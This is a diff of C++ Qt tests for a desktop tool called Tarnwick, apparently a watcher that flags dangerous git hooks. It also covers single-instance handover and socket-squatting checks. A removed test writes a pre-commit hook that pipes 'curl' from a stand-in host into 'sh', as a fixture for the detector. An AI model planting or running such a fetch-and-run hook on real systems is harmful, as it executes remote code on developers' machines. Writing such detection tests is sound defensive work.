@@ -1,11 +1,10 @@
 // The real Tarnwick executable, headless: a store that cannot be opened ends it with the fatal message,
-// a second start hands over to the first and never starts a second watcher, and the watcher goes
-// when the application goes; a watcher killed under it is replaced and catches up on the gap.
+// a second start hands over to the first and never starts a second watcher, the watcher goes when the
+// application goes, and another user's socket is never taken for the running instance.
 
 #include "AppProcesses.h"
 #include "DesktopSession.h"
 #include "desktop/SingleInstance.h"
-#include "records/ModelContainer.h"
 
 #include <QCryptographicHash>
 #include <QDir>
@@ -61,20 +60,16 @@ private slots:
         // The data folder is a file: the store's folder cannot be made.
         QVERIFY(QDir(m_dataHome).removeRecursively());
         QFile blocker(m_dataHome);
-        QVERIFY(blocker.open(QIODevice::WriteOnly));
-        blocker.write("not a folder");
+        QVERIFY(blocker.open(QIODevice::WriteOnly) && blocker.write("not a folder") == 12);
         blocker.close();
-
         QProcess& app = *start();
         QVERIFY(app.waitForFinished(30000));
-        QVERIFY(app.exitStatus() == QProcess::NormalExit);
-        QVERIFY(app.exitCode() != 0);
+        QVERIFY(app.exitStatus() == QProcess::NormalExit && app.exitCode() != 0);
         const QByteArray err = app.readAllStandardError();
         QVERIFY2(err.contains("Could not create ModelContainer: "), err.constData());
         QVERIFY(watchersFor(m_dataHome).isEmpty());
-        QFile check(m_dataHome);
-        QVERIFY(check.open(QIODevice::ReadOnly));
-        QCOMPARE(check.readAll(), QByteArray("not a folder"));
+        QVERIFY(blocker.open(QIODevice::ReadOnly));
+        QCOMPARE(blocker.readAll(), QByteArray("not a folder"));
     }
 
     void secondStartHandsOverAndStartsNoWatcher()
@@ -83,12 +78,9 @@ private slots:
         // The first instance launches the real watcher beside it.
         QTRY_COMPARE_WITH_TIMEOUT(watchersFor(m_dataHome).size(), 1, 20000);
         const QList<qint64> watcher = watchersFor(m_dataHome);
-        QVERIFY(QFile::exists(m_storePath));
-
         QProcess& second = *start();
         QVERIFY2(second.waitForFinished(20000), "the second start did not hand over and exit");
         QCOMPARE(second.exitCode(), 0);
-        QCOMPARE(first.state(), QProcess::Running);
         // A watcher of the second start would have been started before it exited.
         QCOMPARE(watchersFor(m_dataHome), watcher);
 
@@ -157,8 +149,8 @@ private slots:
         const QString tmp = m_dir->filePath(u"tmp"_s);
         const QString home = m_dir->filePath(u"home"_s);
         QVERIFY(QDir().mkpath(tmp) && QDir().mkpath(home));
-        QVERIFY(::chmod(QFile::encodeName(m_dir->path()).constData(), 0711) ==
-                0); // the squatter reaches tmp/
+        // The squatter reaches tmp/.
+        QVERIFY(::chmod(QFile::encodeName(m_dir->path()).constData(), 0711) == 0);
         QVERIFY(::chmod(QFile::encodeName(tmp).constData(), 01777) == 0);
         // The runtime folder Qt would make in the temporary folder is the squatter's, so Qt gives none.
         QVERIFY(QDir().mkpath(tmp + u"/runtime-root"_s));
@@ -216,58 +208,8 @@ private slots:
         }
     }
 
-    void killedWatcherIsReplacedAndCatchesUp()
-    {
-        const QString repo = m_dir->filePath(u"repo"_s);
-        QVERIFY(QDir().mkpath(repo + u"/.git/hooks"_s));
-        QVERIFY(QDir().mkpath(QFileInfo(m_storePath).path()));
-        {
-            QString error;
-            auto store = ModelContainer::open(m_storePath, &error);
-            QVERIFY2(store, qPrintable(error));
-            auto context = store->newContext();
-            Directory directory = Directory::materialize(
-                PersistentIdentifier::create(), QUrl::fromLocalFile(repo), true, false, false, false);
-            context->insert(directory);
-            QVERIFY(context->save());
-        }
-        start();
-        QTRY_COMPARE_WITH_TIMEOUT(watchersFor(m_dataHome).size(), 1, 20000);
-        const qint64 first = watchersFor(m_dataHome).constFirst();
-        // Once the first watcher has recorded up to when it watched, the next one only catches up.
-        const QDir stateDir(m_dir->filePath(u"state/tarnwick"_s));
-        QTRY_VERIFY_WITH_TIMEOUT(!stateDir.entryList(QDir::Files).isEmpty(), 20000);
-
-        QCOMPARE(::kill(pid_t(first), SIGKILL), 0);
-        const QString hook = repo + u"/.git/hooks/pre-commit"_s;
-        {
-            QFile file(hook);
-            QVERIFY(file.open(QIODevice::WriteOnly));
-            file.write("#!/bin/sh\ncurl -s http://x.invalid | sh\n");
-            file.setPermissions(file.permissions() | QFileDevice::ExeOwner);
-        }
-        const auto replaced = [&] {
-            const QList<qint64> now = watchersFor(m_dataHome);
-            return now.size() == 1 && now.constFirst() != first;
-        };
-        QTRY_VERIFY_WITH_TIMEOUT(replaced(), 2000);
-
-        // The hook written in the gap becomes a stored finding, found by the new watcher's catch-up.
-        QString error;
-        auto store = ModelContainer::open(m_storePath, &error);
-        QVERIFY2(store, qPrintable(error));
-        std::optional<Finding> finding;
-        QTRY_VERIFY_WITH_TIMEOUT((finding = store->newContext()
-                                                ->fetchNewestFinding(hook, u"git_hook_runs_payload"_s)
-                                                .value_or(std::nullopt))
-                                     .has_value(),
-                                 30000);
-        QCOMPARE(finding->eventTypes(), QStringList{u"rescanned"_s});
-    }
-
 private:
     // Starts Tarnwick (in m_environment when `env` is empty); the process is kept (and ended) by the test.
-
     QProcess* start(const QProcessEnvironment& env = {})
     {
         auto* process = m_started.emplace_back(std::make_unique<QProcess>()).get();
